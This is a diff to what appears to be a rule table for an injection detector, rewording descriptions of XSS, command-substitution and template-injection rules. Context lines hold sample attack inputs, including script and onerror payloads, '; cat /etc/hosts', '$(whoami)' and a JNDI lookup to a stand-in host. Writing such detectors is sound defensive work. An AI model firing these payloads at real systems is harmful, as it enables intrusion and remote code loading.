@@ -177,7 +177,7 @@ rules! {
         "A script element, opened or closed."
         "<script>alert(7)</script>"
     XssEventHandler "xss-event-handler" Xss 9
-        "An attribute that runs script on an event."
+        "An attribute that runs script on an event, or that a framework of scripts runs."
         "<img src=x onerror=alert(7)>"
     XssScriptUrl "xss-script-url" Xss 8
         "A URL whose scheme runs script."
@@ -195,7 +195,7 @@ rules! {
         "An attribute's value is closed and an event handler added."
         "\" onfocus=alert(7) autofocus x=\""
     XssScriptBreakout "xss-script-breakout" Xss 7
-        "A script's string is closed and a call follows."
+        "A script's string or expression is closed, and a call or an object of the browser follows."
         "';alert(7)//"
     XssScriptAccess "xss-script-access" Xss 6
         "Script that reads cookies, rewrites the page or assembles code."
@@ -213,7 +213,7 @@ rules! {
         "A shell separator followed by a command."
         "; cat /etc/hosts"
     CommandSubstitution "command-substitution" Command 8
-        "A command between backquotes or in `$( )`."
+        "A command between backquotes, in `$( )` or in `<( )`, or letters cut out of a variable."
         "$(whoami)"
     CommandShellshock "command-shellshock" Command 9
         "A function definition in an environment variable."
@@ -228,7 +228,7 @@ rules! {
         "A naming lookup in a log or configuration expression."
         "${jndi:ldap://evil.example/a}"
     TemplateExpression "template-expression" Template 7
-        "Arithmetic or calls inside a template's delimiters."
+        "Arithmetic or calls inside a template's delimiters, or a directive of an engine."
         "{{7*7}}"
     TemplateObject "template-object" Template 8
         "Reaching classes, modules or the process from a template."
